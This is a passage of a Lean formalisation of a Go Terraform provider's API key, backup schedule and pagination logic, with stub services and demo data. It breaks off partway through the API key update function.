            r.1)), s)

/-- `(*BackupSchedule).Read`; the log line written before the resource is
removed is left out. The diagnostics of `GetAttribute` go to the local `diags`,
which is not read again before it is reassigned. -/
def BackupSchedule.Read {σ P R B X : Type} (deps : BackupScheduleDeps R B X)
    (b : providerschema.Data σ P)
    (req : resource.ReadRequest R) (resp : resource.ReadResponse R) (s : σ) :
    Outcome (resource.ReadResponse R) × σ :=
  let got := req.State.Get deps.codec
  let state := got.1
  let diags := got.2
  let resp := { resp with Diagnostics := diag.Append resp.Diagnostics diags }
  if diag.HasError resp.Diagnostics then (.returned resp, s)
  else
    match deps.Validate state with
    | .error err =>
      let resp := { resp with
        Diagnostics := diag.AddError resp.Diagnostics "Error reading backup schedule"
          ("Could not read backup schedule for bucket" ++ (deps.BucketId state).String deps.Quote
            ++ ": " ++ err.Error) }
      (.returned resp, s)
    | .ok resourceIDs =>
      let attr := deps.GetWeeklySchedule req.State.Raw
      let weeklySchedule := attr.1
      let _diags := diag.Append diags attr.2
      let organizationId := resourceIDs providerschema.OrganizationId
      let projectId := resourceIDs providerschema.ProjectId
      let clusterId := resourceIDs providerschema.ClusterId
      let bucketId := resourceIDs providerschema.BucketId
      let stateDayOfWeek :=
        match weeklySchedule with
        | some w => ValueString w.DayOfWeek
        | none => ""
      match BackupSchedule.retrieveBackupSchedule deps b organizationId projectId clusterId
          bucketId stateDayOfWeek s with
      | (.panicked msg, s) => (.panicked msg, s)
      | (.returned (.error err), s) =>
        let found := deps.CheckResourceNotFoundError err
        let resourceNotFound := found.1
        let errString := found.2
        if resourceNotFound then
          let resp := { resp with State := resp.State.RemoveResource }
          (.returned resp, s)
        else
          let resp := { resp with
            Diagnostics := diag.AddError resp.Diagnostics "Error reading backup schedule"
              ("Could not read backup schedule for bucket"
                ++ (deps.BucketId state).String deps.Quote ++ ": " ++ errString) }
          (.returned resp, s)
      | (.returned (.ok refreshedState), s) =>
        let set := resp.State.Set deps.codec refreshedState
        let resp := { resp with State := set.1 }
        let diags := set.2
        let resp := { resp with Diagnostics := diag.Append resp.Diagnostics diags }
        (.returned resp, s)

end resources

/-! ## Vocabulary of the pagination claims -/

namespace api

/-- The URL the specification gives for the request of page `p`. -/
def pageUrl (baseUrl : String) (sortBy : String) (p : Int) : String :=
  baseUrl ++ "?page=" ++ fmt.Sprintd p ++ "&perPage=25"
    ++ (if sortBy = "" then "" else "&sortBy=" ++ sortBy)

/-- The invocation the specification gives for page `p`: a GET of `pageUrl`
with the caller's success status and token, no payload and no extra headers. -/
def pageCall {P : Type} (cfg : EndpointCfg) (token : String) (sortBy : String) (p : Int) :
    Call P :=
  ⟨⟨pageUrl cfg.Url sortBy p, "GET", cfg.SuccessStatus⟩, none, token, none⟩

/-- `Walk client Unmarshal call s p envs s1 p1`: starting in state `s` with page
`p` due, the client answers the request of each due page with a body that
decodes to the next envelope of `envs`, every one of them naming a further page
(`Next ≠ 0`), which becomes the due page; after `envs` the state is `s1` and
page `p1` is due. -/
def Walk {σ P T : Type} (client : Client σ P)
    (Unmarshal : List UInt8 → Except GoError (overlay (List T))) (call : Int → Call P) :
    σ → Int → List (overlay (List T)) → σ → Int → Prop
  | s, p, [], s1, p1 => s1 = s ∧ p1 = p
  | s, p, env :: rest, s1, p1 =>
    ∃ r s0, client (call p) s = (.ok r, s0) ∧ Unmarshal r.Body = .ok env
      ∧ env.Cursor.Pages.Next ≠ 0
      ∧ Walk client Unmarshal call s0 env.Cursor.Pages.Next rest s1 p1

/-- The items of a sequence of envelopes, in order. -/
def dataOf {T : Type} (envs : List (overlay (List T))) : List T :=
  (envs.map (fun env => env.Data)).flatten

/-- `FollowsCursor Unmarshal view expected p journal`: the first invocation of
`journal` shows `expected p` under `view`; every later invocation comes after
one that succeeded with a body decoding to an envelope, and shows `expected` of
that envelope's `Next`. -/
def FollowsCursor {P T κ : Type} (Unmarshal : List UInt8 → Except GoError (overlay (List T)))
    (view : Call P → κ) (expected : Int → κ) : Int → List (Invocation P) → Prop
  | _, [] => True
  | p, inv :: rest =>
    view inv.call = expected p ∧
      (rest = [] ∨ ∃ r env, inv.result = .ok r ∧ Unmarshal r.Body = .ok env
        ∧ FollowsCursor Unmarshal view expected env.Cursor.Pages.Next rest)

end api

/-! ## A small remote service used to exercise the definitions -/

namespace demo

/-- Error constants with distinct texts. -/
def errs : api.InternalErrors where
  ErrExecutingRequest := errors.New "failed to execute request"
  ErrUnmarshallingResponse := errors.New "failed to unmarshal response"
  ErrRefreshingState := errors.New "failed to refresh state"
  ErrValidatingResource := errors.New "failed to validate resource"
  ErrConvertingCidr := errors.New "failed to convert cidr"
  ErrUnableToConvertAuditData := errors.New "failed to convert audit data"

/-- A cursor that only names the next page. -/
def cursor (next : Int) : api.Cursor :=
  ⟨⟨"", "", "", ""⟩, ⟨0, next, 0, 0, 0, 0⟩⟩

/-- The listing endpoint configuration of the examples. -/
def cfg : api.EndpointCfg := ⟨"https://h/v4/things", "POST", 200⟩

/-- A stateless service with three pages: page 1 holds `10, 11` and names page
2, page 2 holds `20` and names page 3, page 3 holds `30, 31` and is the last.
The body of page `k` is the single byte `k`; any other request fails. -/
def threePages : api.Client Unit Unit :=
  fun call s =>
    if call.cfg.Url = "https://h/v4/things?page=1&perPage=25" then (.ok ⟨[1]⟩, s)
    else if call.cfg.Url = "https://h/v4/things?page=2&perPage=25" then (.ok ⟨[2]⟩, s)
    else if call.cfg.Url = "https://h/v4/things?page=3&perPage=25" then (.ok ⟨[3]⟩, s)
    else (.error (.value "*api.Error" "resource not found"), s)

/-- The decoder of the examples: byte `1`, `2`, `3` are the three pages, byte
`4` is an empty last page, byte `5` is a page that names page 1 as next, and
anything else is malformed. -/
def Unmarshal : List UInt8 → Except GoError (api.overlay (List Nat))
  | [1] => .ok ⟨[10, 11], cursor 2⟩
  | [2] => .ok ⟨[20], cursor 3⟩
  | [3] => .ok ⟨[30, 31], cursor 0⟩
  | [4] => .ok ⟨[], cursor 0⟩
  | [5] => .ok ⟨[7], cursor 1⟩
  | _ => .error (.value "*json.SyntaxError" "unexpected end of JSON input")

/-- A stateless service that answers every request with the body `5`: a page
that names page 1 as the next one. -/
def selfCycle : api.Client Unit Unit :=
  fun _ s => (.ok ⟨[5]⟩, s)

/-- A stateless service whose first page is the body `1` (which names page 2)
and which answers every other request with `second`. -/
def onePageThen (second : Except GoError api.Response) : api.Client Unit Unit :=
  fun call s =>
    if call.cfg.Url = "https://h/v4/things?page=1&perPage=25" then (.ok ⟨[1]⟩, s)
    else (second, s)

/-- A stateless service that answers every request with the body `4`: an empty
last page. -/
def emptyListing : api.Client Unit Unit :=
  fun _ s => (.ok ⟨[4]⟩, s)

/-- A service that plays a script: each invocation is answered with the next
canned reply, whatever is asked; once the script is used up the connection is
refused. -/
def scripted : api.Client (List (Except GoError api.Response)) Unit :=
  fun _ s =>
    match s with
    | [] => (.error (.value "*net.OpError" "connection refused"), [])
    | reply :: rest => (reply, rest)

/-- A classification of errors for the examples: an error is a not-found error
when its chain ends in the `*api.Error` with the text `resource not found`. -/
def CheckResourceNotFoundError : GoError → Bool × String
  | .wrapError _ err => CheckResourceNotFoundError err
  | .value typ msg => (typ = "*api.Error" ∧ msg = "resource not found", msg)

/-- The answer of the service for a key that does not exist. -/
def notFound : GoError := .value "*api.Error" "resource not found"

/-- The answer of the service when it is down. -/
def unavailable : GoError := .value "*api.Error" "service unavailable"

/-- The schema helpers of the examples: sets are built without diagnostics, and
a state is valid when all its identifiers are known. -/
def schemaDeps : providerschema.Deps where
  SetValue := fun elements => (.known elements, [])
  validateSchemaState := fun state =>
    if state.all (fun kv => !kv.2.IsNull && !kv.2.IsUnknown) then
      .ok (fun key => basetypes.ValueString ((state.lookup key).getD .null))
    else .error (.value "*errors.errorString" "invalid import")

/-- An api key as tracked in the state of the examples. -/
def apiKey : providerschema.ApiKey where
  Expiry := .known 30
  Rotate := .null
  AllowedCIDRs := .known [.known "10.0.0.0/8"]
  OrganizationId := .known "org-1"
  Audit := .null
  Description := .known ""
  Id := .known "key-1"
  Name := .known "ci"
  Secret := .null
  Token := .null
  OrganizationRoles := some [.known "organizationMember"]
  Resources := none

/-- The dependencies of `apikey.go` in the examples: raw values are the structs
themselves, a null state decodes with an error, and the only body that decodes
is the byte `1`. -/
def deps : resources.Deps providerschema.ApiKey Unit where
  errs := errs
  schema := schemaDeps
  CheckResourceNotFoundError := CheckResourceNotFoundError
  ParseError := fun err => err.Error
  Quote := fun v => "[" ++ v ++ "]"
  Unmarshal := fun body =>
    match body with
    | [1] => .ok ⟨"key-1", "ci", "", 30, (), some ["10.0.0.0/8"], some ["organizationMember"], none⟩
    | _ => .error (.value "*json.SyntaxError" "unexpected end of JSON input")
  auditObject := fun _ => (.known [], [])
  codec :=
    { decode := fun raw =>
        match raw with
        | some v => (v, [])
        | none => (apiKey, [⟨.Error, "Value Conversion Error", "null state", none⟩])
      encode := fun v => (some v, []) }

/-- The configured provider data of the examples. -/
def data : providerschema.Data (List (Except GoError api.Response)) Unit :=
  ⟨"https://h", "tok", scripted⟩

/-- A stand-in for `providerschema.BackupSchedule` with the identifiers only. -/
structure BackupSchedule where
  OrganizationId : basetypes.StringValue
  ProjectId : basetypes.StringValue
  ClusterId : basetypes.StringValue
  BucketId : basetypes.StringValue
deriving DecidableEq, Repr

/-- A backup schedule as tracked in the state of the examples. -/
def backupSchedule : BackupSchedule :=
  ⟨.known "org-1", .known "proj-1", .known "cluster-1", .known "bucket-1"⟩

/-- The dependencies of `backup_schedule.go` in the examples. -/
def backupDeps : resources.BackupScheduleDeps BackupSchedule BackupSchedule Unit where
  errs := errs
  CheckResourceNotFoundError := CheckResourceNotFoundError
  ParseError := fun err => err.Error
  Quote := fun v => "[" ++ v ++ "]"
  EqualFold := fun x y => x.toLower = y.toLower
  BucketId := fun b => b.BucketId
  Validate := fun b =>
    .ok (fun key =>
      if key = providerschema.OrganizationId then basetypes.ValueString b.OrganizationId
      else if key = providerschema.ProjectId then basetypes.ValueString b.ProjectId
      else if key = providerschema.ClusterId then basetypes.ValueString b.ClusterId
      else if key = providerschema.BucketId then basetypes.ValueString b.BucketId
      else "")
  codec :=
    { decode := fun raw =>
        match raw with
        | some v => (v, [])
        | none => (backupSchedule, [⟨.Error, "Value Conversion Error", "null state", none⟩])
      encode := fun v => (some v, []) }
  GetWeeklySchedule := fun _ => (none, [])
  Unmarshal := fun body =>
    match body with
    | [1] => .ok ⟨some ⟨"sunday", 10, 4, "90days", false⟩, ()⟩
    | [2] => .ok ⟨none, ()⟩
    | _ => .error (.value "*json.SyntaxError" "unexpected end of JSON input")
  scheduleObject := fun _ => (.known [], [])
  NewBackupSchedule := fun _ organizationId projectId _ =>
    ⟨.known organizationId, .known projectId, .known "cluster-1", .known "bucket-1"⟩

end demo

/-! ## `internal/schema/apikey.go`: `OrderList2` and `AreEqual` -/

namespace providerschema

open basetypes

/-- The zero value of `ApiKeyResourcesItems`, which a Go map yields for a key it
does not hold. -/
def ApiKeyResourcesItems.zero : ApiKeyResourcesItems :=
  { Id := Value.null, Typ := Value.null, Roles := none }

/-- `OrderList2`. The map `idToItem` is the function from keys to items that
yields the zero value where nothing was stored; `make([]T, n)` followed by the
indexed assignments is the list of the looked-up items. -/
def OrderList2 (list1 list2 : Slice ApiKeyResourcesItems) :
    Slice ApiKeyResourcesItems × Option GoError :=
  if (Slice.toList list1).length ≠ (Slice.toList list2).length then
    (none, some (errors.New "returned resources is not same as in plan"))
  else
    let idToItem : String → ApiKeyResourcesItems :=
      (Slice.toList list2).foldl
        (fun idToItem item => Function.update idToItem (ValueString item.Id) item)
        (fun _ => ApiKeyResourcesItems.zero)
    let orderedList2 : List ApiKeyResourcesItems :=
      (Slice.toList list1).map (fun item1 => idToItem (ValueString item1.Id))
    if orderedList2.length ≠ (Slice.toList list2).length then
      (none, some (errors.New "returned resources is not same as in plan"))
    else (some orderedList2, none)

/-- `AreEqual`. The map `set1` is kept as the list of its keys, in the order
they were first stored (every value stored is `true`, so `set1[element]` is
membership and `len(set1)` the number of keys). -/
def AreEqual {T : Type} [DecidableEq T] (array1 array2 : List T) : Bool :=
  if array1.length ≠ array2.length then false
  else
    let set1 : List T :=
      array1.foldl (fun set1 element => if element ∈ set1 then set1 else set1 ++ [element]) []
    if array2.any (fun element => !decide (element ∈ set1)) then false
    else decide (set1.length = array1.length)

end providerschema

namespace demo

/-- A resource item with the given id and role. -/
def item (id role : String) : providerschema.ApiKeyResourcesItems :=
  { Id := .known id, Typ := .known "project", Roles := some [.known role] }

end demo

/-! ## Composite identifiers: `validateSchemaState` and `NetworkPeer.Validate` -/

namespace strings

/-- `strings.Split(s, sep)` for a separator of one character, on the characters
of `s`: the segments between the separators, in order. -/
def Split (sep : Char) : List Char → List (List Char)
  | [] => [[]]
  | c :: cs =>
    if c = sep then [] :: Split sep cs
    else
      match Split sep cs with
      | [] => [[c]]
      | segment :: segments => (c :: segment) :: segments

end strings

namespace providerschema

open basetypes

/-- Modelled from the spec: the parsing of a composite identifier, "a
comma-separated key=value string" such as
`organization_id=<id>,project_id=<id>,cluster_id=<id>,bucket_id=<id>`. The
parsing code is declared outside the files at hand. The result lists the
key/value pairs in the order they are written; a segment that is not of the
form `key=value` yields no pair. -/
def parseImportString (importString : String) : List (Attr × String) :=
  (strings.Split ',' importString.data).filterMap (fun segment =>
    match strings.Split '=' segment with
    | [key, value] => some (String.mk key, String.mk value)
    | _ => none)

/-- Modelled from the spec: `validateSchemaState`, declared outside the files at
hand. When every identifier of `state` is set, the resource comes from an apply
and the identifiers are returned as they are. Otherwise the resource comes from
an import and the `id` attribute holds a composite identifier: "the core must
parse and validate presence of every required key, failing with a descriptive
error naming the first missing key"; the required keys are the keys of `state`,
and the error wraps `ErrInvalidImport`, as the test of `NetworkPeer.Validate`
expects. The map returned is read with `""` for a missing key. -/
def validateSchemaState (ErrInvalidImport : GoError) (state : List (Attr × StringValue)) :
    Except GoError (Attr → String) :=
  if state.all (fun entry => !entry.2.IsNull && !entry.2.IsUnknown) then
    .ok (fun key => ValueString ((state.lookup key).getD Value.null))
  else
    let pairs := parseImportString (ValueString ((state.lookup Id).getD Value.null))
    match state.find? (fun entry => (pairs.lookup entry.1).isNone) with
    | some missing =>
      .error (.wrapError (ErrInvalidImport.Error ++ ": " ++ missing.1 ++ " is missing")
        ErrInvalidImport)
    | none => .ok (fun key => (pairs.lookup key).getD "")

/-- Modelled from the spec: `NetworkPeer`, declared outside the files at hand:
the identifier fields that its test sets. -/
structure NetworkPeer where
  Id : StringValue
  ClusterId : StringValue
  ProjectId : StringValue
  OrganizationId : StringValue
deriving DecidableEq, Repr

/-- Modelled from the spec: `(*NetworkPeer).Validate`, declared outside the
files at hand; it is written after `(*ApiKey).Validate`, with the four
identifiers of a network peer as the state to validate. -/
def NetworkPeer.Validate (errs : api.InternalErrors) (ErrInvalidImport : GoError)
    (n : NetworkPeer) : Except GoError (Attr → String) :=
  let state : List (Attr × StringValue) :=
    [(providerschema.OrganizationId, n.OrganizationId),
      (providerschema.ProjectId, n.ProjectId),
      (providerschema.ClusterId, n.ClusterId),
      (providerschema.Id, n.Id)]
  match validateSchemaState ErrInvalidImport state with
  | .error err => .error (fmt.Errorf_s_w errs.ErrValidatingResource err)
  | .ok IDs => .ok IDs

end providerschema

namespace demo

/-- The error constant `ErrInvalidImport` of the examples. -/
def ErrInvalidImport : GoError := errors.New "invalid import"

end demo

/-! ## The mutating operations: framework and API types -/

namespace http

/-- `http.MethodPost`. -/
def MethodPost : String := "POST"

/-- `http.MethodPut`. -/
def MethodPut : String := "PUT"

/-- `http.MethodDelete`. -/
def MethodDelete : String := "DELETE"

/-- `http.StatusCreated`. -/
def StatusCreated : Int := 201

/-- `http.StatusAccepted`. -/
def StatusAccepted : Int := 202

/-- `http.StatusNoContent`. -/
def StatusNoContent : Int := 204

end http

namespace big

/-- `x.Cmp(y)` on `*big.Float` values, by the numbers they denote: `-1`, `0` or
`+1` as `x` is below, equal to or above `y`. -/
def Cmp (x y : Rat) : Int :=
  if x < y then -1 else if x = y then 0 else 1

end big

namespace basetypes

/-- `ValueStringPointer()`: nil for a null value, a pointer to `""` for an
unknown value, a pointer to the string for a known value. -/
def ValueStringPointer : StringValue → Option String
  | .null => none
  | .unknown => some ""
  | .known v => some v

/-- `ValueInt64()`: the known number, `0` when null or unknown. -/
def ValueInt64 : Value Int → Int
  | .known v => v
  | _ => 0

/-- `ValueBool()`: the known boolean, `false` when null or unknown. -/
def ValueBool : Value Bool → Bool
  | .known v => v
  | _ => false

end basetypes

namespace tfsdk

/-- `tfsdk.Plan`. -/
structure Plan (R : Type) where
  Raw : Option R

/-- `tfsdk.Config`. -/
structure Config (R : Type) where
  Raw : Option R

/-- `Plan.Get(ctx, &target)`. -/
def Plan.Get {R S : Type} (codec : Codec R S) (plan : Plan R) : S × diag.Diagnostics :=
  codec.decode plan.Raw

end tfsdk

namespace resource

/-- `resource.CreateRequest`. -/
structure CreateRequest (R : Type) where
  Config : tfsdk.Config R
  Plan : tfsdk.Plan R

/-- `resource.CreateResponse`. -/
structure CreateResponse (R : Type) where
  State : tfsdk.State R
  Diagnostics : diag.Diagnostics

/-- `resource.UpdateRequest`. -/
structure UpdateRequest (R : Type) where
  Config : tfsdk.Config R
  Plan : tfsdk.Plan R
  State : tfsdk.State R

/-- `resource.UpdateResponse`. -/
structure UpdateResponse (R : Type) where
  State : tfsdk.State R
  Diagnostics : diag.Diagnostics

/-- `resource.DeleteRequest`. -/
structure DeleteRequest (R : Type) where
  State : tfsdk.State R

/-- `resource.DeleteResponse`. -/
structure DeleteResponse (R : Type) where
  State : tfsdk.State R
  Diagnostics : diag.Diagnostics

end resource

namespace api

/-- `CreateApiKeyRequest` (declared in `apikey.go` of package `api`): the fields
`ApiKey.Create` sets; a pointer field is an `Option`. -/
structure CreateApiKeyRequest where
  Name : String
  OrganizationRoles : Slice String
  Description : Option String
  Expiry : Option Rat
  Resources : Option (Slice ResourcesItems)
  AllowedCIDRs : Option (Slice String)

/-- `CreateApiKeyResponse` (declared in `apikey.go` of package `api`): the
fields `ApiKey.Create` reads. -/
structure CreateApiKeyResponse where
  Id : String
  Token : String

/-- `RotateApiKeyRequest` (declared in `apikey.go` of package `api`). -/
structure RotateApiKeyRequest where
  Secret : Option String
deriving DecidableEq, Repr

/-- `RotateApiKeyResponse` (declared in `apikey.go` of package `api`): the field
`ApiKey.Update` reads. -/
structure RotateApiKeyResponse where
  SecretKey : String

end api

namespace scheduleapi

/-- `CreateBackupScheduleRequest` of package `api/backup_schedule`. -/
structure CreateBackupScheduleRequest where
  Typ : String
  WeeklySchedule : WeeklySchedule
deriving DecidableEq, Repr

/-- `UpdateBackupScheduleRequest` of package `api/backup_schedule`. -/
structure UpdateBackupScheduleRequest where
  Typ : String
  WeeklySchedule : WeeklySchedule
deriving DecidableEq, Repr

end scheduleapi

namespace api

/-- The payloads handed to `ExecuteWithRetry` (its parameter has type `any`). -/
inductive Payload where
  | CreateApiKeyRequest (request : CreateApiKeyRequest)
  | RotateApiKeyRequest (request : RotateApiKeyRequest)
  | CreateBackupScheduleRequest (request : scheduleapi.CreateBackupScheduleRequest)
  | UpdateBackupScheduleRequest (request : scheduleapi.UpdateBackupScheduleRequest)

end api

namespace providerschema

/-- The configured resource with a client that keeps a journal. -/
def Data.logged {σ P : Type} (data : Data σ P) : Data (σ × List (api.Invocation P)) P :=
  { HostURL := data.HostURL, Token := data.Token, Client := data.Client.logged }

end providerschema

/-! ## `internal/resources/apikey.go`: `Create`, `Update`, `Delete` -/

namespace resources

open basetypes

/-- `errorMessageAfterApiKeyCreation`. -/
def errorMessageAfterApiKeyCreation : String :=
  "Api Key creation is successful, but encountered an error while checking the current" ++
  " state of the api key. Please run `terraform plan` after 1-2 minutes to know the" ++
  " current api key state. Additionally, run `terraform apply --refresh-only` to update" ++
  " the state from remote, unexpected error: "

/-- `errorMessageWhileApiKeyCreation`. -/
def errorMessageWhileApiKeyCreation : String :=
  "There is an error during api key creation. Please check in Capella to see if any hanging resources" ++
  " have been created, unexpected error: "

/-- What `Create` and `Update` of `apikey.go` take from outside the files at
hand, on top of `Deps`. -/
structure WriteDeps (R A : Type) extends Deps R A where
  /-- `internalerrors.ErrNotTrimmed`. -/
  ErrNotTrimmed : GoError
  /-- `providerschema.IsTrimmed(s)`. -/
  IsTrimmed : String → Bool
  /-- The conversion `float32(x)` of a float64. -/
  Float32 : Rat → Rat
  /-- `uuid.Parse(s)`. -/
  ParseUUID : String → Except GoError uuid.UUID
  /-- `allowedCidrs.ElementsAs(ctx, &elements, false)`. -/
  ElementsAs : SetValue → List StringValue × diag.Diagnostics
  /-- `json.Unmarshal` into a fresh `api.CreateApiKeyResponse`. -/
  UnmarshalCreate : List UInt8 → Except GoError api.CreateApiKeyResponse
  /-- `json.Unmarshal` into a fresh `api.RotateApiKeyResponse`. -/
  UnmarshalRotate : List UInt8 → Except GoError api.RotateApiKeyResponse
  /-- `base64.StdEncoding.EncodeToString([]byte(s))`. -/
  Base64 : String → String

/-- `(*ApiKey).validateApiKeyAttributesTrimmed`; `none` is a nil error. -/
def ApiKey.validateApiKeyAttributesTrimmed {R A : Type} (deps : WriteDeps R A)
    (plan : providerschema.ApiKey) : Option GoError :=
  if (!plan.Name.IsNull && !plan.Name.IsUnknown) && !deps.IsTrimmed (ValueString plan.Name) then
    some (errors.New ("name " ++ deps.ErrNotTrimmed.Error))
  else if (!plan.Description.IsNull && !plan.Description.IsUnknown)
      && !deps.IsTrimmed (ValueString plan.Description) then
    some (errors.New ("description " ++ deps.ErrNotTrimmed.Error))
  else none

/-- `(*ApiKey).validateCreateApiKeyRequest`; `none` is a nil error. -/
def ApiKey.validateCreateApiKeyRequest {R A : Type} (deps : WriteDeps R A)
    (plan : providerschema.ApiKey) : Option GoError :=
  if plan.OrganizationId.IsNull then some (errors.New "organizationId cannot be empty")
  else if plan.Name.IsNull then some (errors.New "name cannot be empty")
  else if plan.OrganizationRoles.isNone then
    some (errors.New "organizationRoles cannot be empty")
  else if !plan.Rotate.IsNull && !plan.Rotate.IsUnknown then
    some (errors.New "rotate value should not be set")
  else if !plan.Secret.IsNull && !plan.Secret.IsUnknown then
    some (errors.New "secret should not be set while create operation")
  else ApiKey.validateApiKeyAttributesTrimmed deps plan

/-- `(*ApiKey).convertOrganizationRoles`. -/
def ApiKey.convertOrganizationRoles (organizationRoles : Slice StringValue) : Slice String :=
  (Slice.toList organizationRoles).foldl
    (fun convertedRoles role => Slice.append convertedRoles (ValueString role)) none

/-- The loop of `(*ApiKey).convertResources` over the resources still to
convert. -/
def ApiKey.convertResources.loop {R A : Type} (deps : WriteDeps R A) :
    List providerschema.ApiKeyResourcesItems → Slice api.ResourcesItems →
      Slice api.ResourcesItems × Option GoError
  | [], convertedResources => (convertedResources, none)
  | resource :: rest, convertedResources =>
    match deps.ParseUUID (ValueString resource.Id) with
    | .error _ => (none, some (errors.New "resource id is not valid uuid"))
    | .ok id =>
      let convertedResource : api.ResourcesItems := { Id := id, Roles := none, Typ := none }
      let convertedRoles : Slice String :=
        (Slice.toList resource.Roles).foldl
          (fun convertedRoles role => Slice.append convertedRoles (ValueString role)) none
      let convertedResource := { convertedResource with Roles := convertedRoles }
      let convertedResource :=
        if !resource.Typ.IsNull && !resource.Typ.IsUnknown then
          { convertedResource with Typ := ValueStringPointer resource.Typ }
        else convertedResource
      ApiKey.convertResources.loop deps rest (Slice.append convertedResources convertedResource)

/-- `(*ApiKey).convertResources`. -/
def ApiKey.convertResources {R A : Type} (deps : WriteDeps R A)
    (resources : Slice providerschema.ApiKeyResourcesItems) :
    Slice api.ResourcesItems × Option GoError :=
  ApiKey.convertResources.loop deps (Slice.toList resources) none

/-- `(*ApiKey).convertAllowedCidrs`. -/
def ApiKey.convertAllowedCidrs {R A : Type} (deps : WriteDeps R A) (allowedCidrs : SetValue) :
    Slice String × Option GoError :=
  let r := deps.ElementsAs allowedCidrs
  let elements := r.1
  let diags := r.2
  if diag.HasError diags then
    (none, some (errors.New "error while extracting allowedCidrs elements"))
  else
    (elements.foldl
      (fun convertedAllowedCidrs allowedCidr =>
        Slice.append convertedAllowedCidrs (ValueString allowedCidr)) none, none)

/-- `initializeApiKeyWithPlanAndId`. -/
def initializeApiKeyWithPlanAndId (plan : providerschema.ApiKey) (id : String) :
    providerschema.ApiKey :=
  let plan := { plan with Id := Value.known id }
  let plan := if plan.Secret.IsNull || plan.Secret.IsUnknown then
    { plan with Secret := Value.null } else plan
  let plan := if plan.Rotate.IsNull || plan.Rotate.IsUnknown then
    { plan with Rotate := Value.null } else plan
  let plan := { plan with Token := Value.null }
  let plan := { plan with Audit := Value.null }
  plan

/-- `(*ApiKey).Create`. The dereference `*plan.Expiry.ValueFloat64Pointer()`
stands under the test that `Expiry` is known, so it reads the known value. -/
def ApiKey.Create {σ R A : Type} (deps : WriteDeps R A) (a : providerschema.Data σ api.Payload)
    (req : resource.CreateRequest R) (resp : resource.CreateResponse R) (s : σ) :
    resource.CreateResponse R × σ :=
  let got := req.Plan.Get deps.codec
  let plan := got.1
  let diags := got.2
  let resp := { resp with Diagnostics := diag.Append resp.Diagnostics diags }
  if diag.HasError resp.Diagnostics then (resp, s)
  else
    match ApiKey.validateCreateApiKeyRequest deps plan with
    | some err =>
      let resp := { resp with
        Diagnostics := diag.AddError resp.Diagnostics "Error creating ApiKey"
          ("Could not create ApiKey, unexpected error:" ++ err.Error) }
      (resp, s)
    | none =>
      let organizationId := ValueString plan.OrganizationId
      let apiKeyRequest : api.CreateApiKeyRequest :=
        { Name := ValueString plan.Name
          OrganizationRoles := ApiKey.convertOrganizationRoles plan.OrganizationRoles
          Description := none
          Expiry := none
          Resources := none
          AllowedCIDRs := none }
      let apiKeyRequest :=
        if !plan.Description.IsNull && !plan.Description.IsUnknown then
          { apiKeyRequest with Description := ValueStringPointer plan.Description }
        else apiKeyRequest
      let apiKeyRequest :=
        match plan.Expiry with
        | .known expiry => { apiKeyRequest with Expiry := some (deps.Float32 expiry) }
        | _ => apiKeyRequest
      match ApiKey.convertResources deps plan.Resources with
      | (_, some err) =>
        let resp := { resp with
          Diagnostics := diag.AddError resp.Diagnostics "Error creating ApiKey"
            ("Could not create ApiKey, unexpected error:" ++ err.Error) }
        (resp, s)
      | (convertedResources, none) =>
        let apiKeyRequest := { apiKeyRequest with Resources := some convertedResources }
        let cidrs : Option (Slice String) × Option GoError :=
          if !plan.AllowedCIDRs.IsNull && !plan.AllowedCIDRs.IsUnknown then
            match ApiKey.convertAllowedCidrs deps plan.AllowedCIDRs with
            | (_, some err) => (none, some err)
            | (convertedAllowedCidr, none) => (some convertedAllowedCidr, none)
          else (apiKeyRequest.AllowedCIDRs, none)
        match cidrs with
        | (_, some err) =>
          let resp := { resp with
            Diagnostics := diag.AddError resp.Diagnostics "Error creating ApiKey"
              ("Could not create ApiKey, unexpected error:" ++ err.Error) }
          (resp, s)
        | (allowedCIDRs, none) =>
          let apiKeyRequest := { apiKeyRequest with AllowedCIDRs := allowedCIDRs }
          let url := a.HostURL ++ "/v4/organizations/" ++ organizationId ++ "/apikeys"
          let cfg : api.EndpointCfg :=
            { Url := url, Method := http.MethodPost, SuccessStatus := http.StatusCreated }
          match a.Client ⟨cfg, some (api.Payload.CreateApiKeyRequest apiKeyRequest), a.Token,
              none⟩ s with
          | (.error err, s) =>
            let resp := { resp with
              Diagnostics := diag.AddError resp.Diagnostics "Error creating ApiKey Here"
                (errorMessageWhileApiKeyCreation ++ deps.ParseError err) }
            (resp, s)
          | (.ok response, s) =>
            match deps.UnmarshalCreate response.Body with
            | .error err =>
              let resp := { resp with
                Diagnostics := diag.AddError resp.Diagnostics "Error creating ApiKey"
                  (errorMessageWhileApiKeyCreation ++ "error during unmarshalling: "
                    ++ err.Error) }
              (resp, s)
            | .ok apiKeyResponse =>
              let set := resp.State.Set deps.codec
                (initializeApiKeyWithPlanAndId plan apiKeyResponse.Id)
              let resp := { resp with State := set.1 }
              let diags := set.2
              let resp := { resp with Diagnostics := diag.Append resp.Diagnostics diags }
              if diag.HasError resp.Diagnostics then (resp, s)
              else
                match ApiKey.retrieveApiKey deps.toDeps a organizationId apiKeyResponse.Id s with
                | (.error err, s) =>
                  let resp := { resp with
                    Diagnostics := diag.AddWarning resp.Diagnostics "Error creating ApiKey"
                      (errorMessageAfterApiKeyCreation ++ deps.ParseError err) }
                  (resp, s)
                | (.ok refreshedState, s) =>
                  let refreshedState :=
                    { refreshedState with Token := Value.known apiKeyResponse.Token }
                  let refreshedState := ApiKey.retainResourcesIfOrgOwner plan refreshedState
                  let set := resp.State.Set deps.codec refreshedState
                  let resp := { resp with State := set.1 }
                  let diags := set.2
                  let resp := { resp with Diagnostics := diag.Append resp.Diagnostics diags }
                  (resp, s)

/-- `(*ApiKey).Update`; the log line written before the resource is removed is
left out. The dereferences `*plan.Rotate.ValueBigFloat()` and
`*state.Rotate.ValueBigFloat()` stand under the tests that both values are
known. -/
def ApiKey.Update {σ R A : Type} (deps : WriteDeps R A) (a : providerschema.Data σ api.Payload)
    (req : resource.UpdateRequest R) (resp : resource.UpdateResponse R) (s : σ) :
    resource.UpdateResponse R × σ :=
  let gotPlan := req.Plan.Get deps.codec
  let plan := gotPlan.1
  let resp := { resp with Diagnostics := diag.Append resp.Diagnostics gotPlan.2 }
  let gotState := req.State.Get deps.codec
  let state := gotState.1
  let resp := { resp with Diagnostics := diag.Append resp.Diagnostics gotState.2 }
  if diag.HasError resp.Diagnostics then (resp, s)
  else
    match state.Validate deps.errs deps.schema with
    | .error err =>
      let resp := { resp with
        Diagnostics := diag.AddError resp.Diagnostics "Error rotate api key"
